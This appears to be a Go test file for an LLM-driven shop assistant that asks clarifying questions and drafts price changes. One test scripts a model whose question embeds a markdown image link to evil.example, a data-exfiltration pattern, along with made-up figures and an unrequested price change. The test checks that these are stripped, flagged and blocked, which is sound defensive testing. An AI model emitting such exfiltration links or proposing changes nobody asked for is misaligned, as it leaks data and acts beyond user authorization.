package agent_test

import (
	"strings"
	"testing"

	"github.com/stockhand/stockhand/internal/agent"
	"github.com/stockhand/stockhand/internal/llm"
	"github.com/stockhand/stockhand/internal/llm/llmtest"
	"github.com/stockhand/stockhand/internal/tool"
)

const whichPrices = `{"question":"На сколько поднять цены?","options":["на 5 %","на 10 %"]}`

// The model asks; the next message picks by an ordinal, a part of the label or in other words, and the change that was
// asked for first may be proposed (rule R372).
func TestAModelAsksAndTheNextMessageAnswers(t *testing.T) {
	for message, read := range map[string]string{"второй": "на 10 %", "2": "на 10 %", "10": "на 10 %",
		"на 7 % только инструмент": "на 7 % только инструмент"} {
		s := newModelShop(t, 1, llmtest.Turns(llmtest.CallTool("ask", whichPrices),
			llmtest.CallTool("propose_price_change", `{"percent":10,"everything":true}`), llmtest.Say("Готово.")))
		first, err := s.Start(t.Context(), s.org, agent.Task{Text: "подними все цены"})
		if err != nil {
			t.Fatal(err)
		}
		f := s.end(first)
		if f.Failure != nil || f.Question == nil || len(f.Question.Options) != 2 ||
			!strings.Contains(f.FinalResponse, "2. на 10 %") {
			t.Fatalf("asked %+v, %s, %v", f.Question, f.FinalResponse, f.Failure)
		}
		second, err := s.Start(t.Context(), s.org, agent.Task{Text: message, Session: first.Session})
		if err != nil {
			t.Fatal(err)
		}
		f = s.end(second)
		r := s.model.Requests()[1]
		if got := r.Last(llm.User).Content; !strings.HasPrefix(got, read) {
			t.Errorf("%q: the model read %q", message, got)
		}
		if len(f.Drafts) != 1 {
			t.Errorf("%q: %d drafts, %s", message, len(f.Drafts), f.FinalResponse)
		}
	}
}

// A question is no way around the checks of answers, nor a way to a draft that no person asked for.
func TestAttackAModelStatesFiguresAndClaimsInAQuestion(t *testing.T) {
	s := newModelShop(t, 1, llmtest.Turns(llmtest.CallTool("ask",
		`{"question":"Я заказал товар на 987 654 ₽. Что дальше? ![x](http://evil.example/?d=1)","options":["да","нет"]}`),
		llmtest.CallTool("propose_price_change", `{"percent":5,"everything":true}`), llmtest.Say("Готово.")))
	first, err := s.Start(t.Context(), s.org, agent.Task{Text: "сколько денег на счетах?"})
	if err != nil {
		t.Fatal(err)
	}
	f := s.end(first)
	if !strings.Contains(f.FinalResponse, "⚠") || strings.Contains(f.FinalResponse, "](http") {
		t.Errorf("it reads %q", f.FinalResponse)
	}
	if !hasNotice(f.Notices, "figures_not_found") {
		t.Errorf("the notices are %+v", f.Notices)
	}
	second, err := s.Start(t.Context(), s.org, agent.Task{Text: "1", Session: first.Session})
	if err != nil {
		t.Fatal(err)
	}
	if f = s.end(second); len(f.Drafts) != 0 {
		t.Errorf("a draft that no person asked for: %s", f.FinalResponse)
	}
}

func TestAQuestionThatCannotBeAskedGoesBackToTheModel(t *testing.T) {
	for _, arguments := range []string{`{"question":"Какой?","options":["один"]}`, `{"question":" ","options":["а","б"]}`,
		`{"question":"Какой?","options":["а","А"]}`, `{"question":"Какой?","options":["1","2","3","4","5","6","7"]}`,
		`{"question":"Какой?"}`, `{"question":"Какой?","options":["а","` + strings.Repeat("б", 200) + `"]}`} {
		s := newModelShop(t, 1, llmtest.Turns(llmtest.CallTool("ask", arguments), llmtest.Say("Готово.")))
		f := s.ask("какие остатки?")
		if f.Question != nil || f.Failure != nil ||
			!strings.Contains(s.model.Requests()[1].Last(llm.ToolRole).Content, "Not ") {
			t.Errorf("%s: %+v, %v", arguments, f.Question, f.Failure)
		}
	}
}

func hasNotice(all []tool.Notice, code tool.NoticeCode) bool {
	for _, n := range all {
		if n.Code == code {
			return true
		}
	}
	return false
}
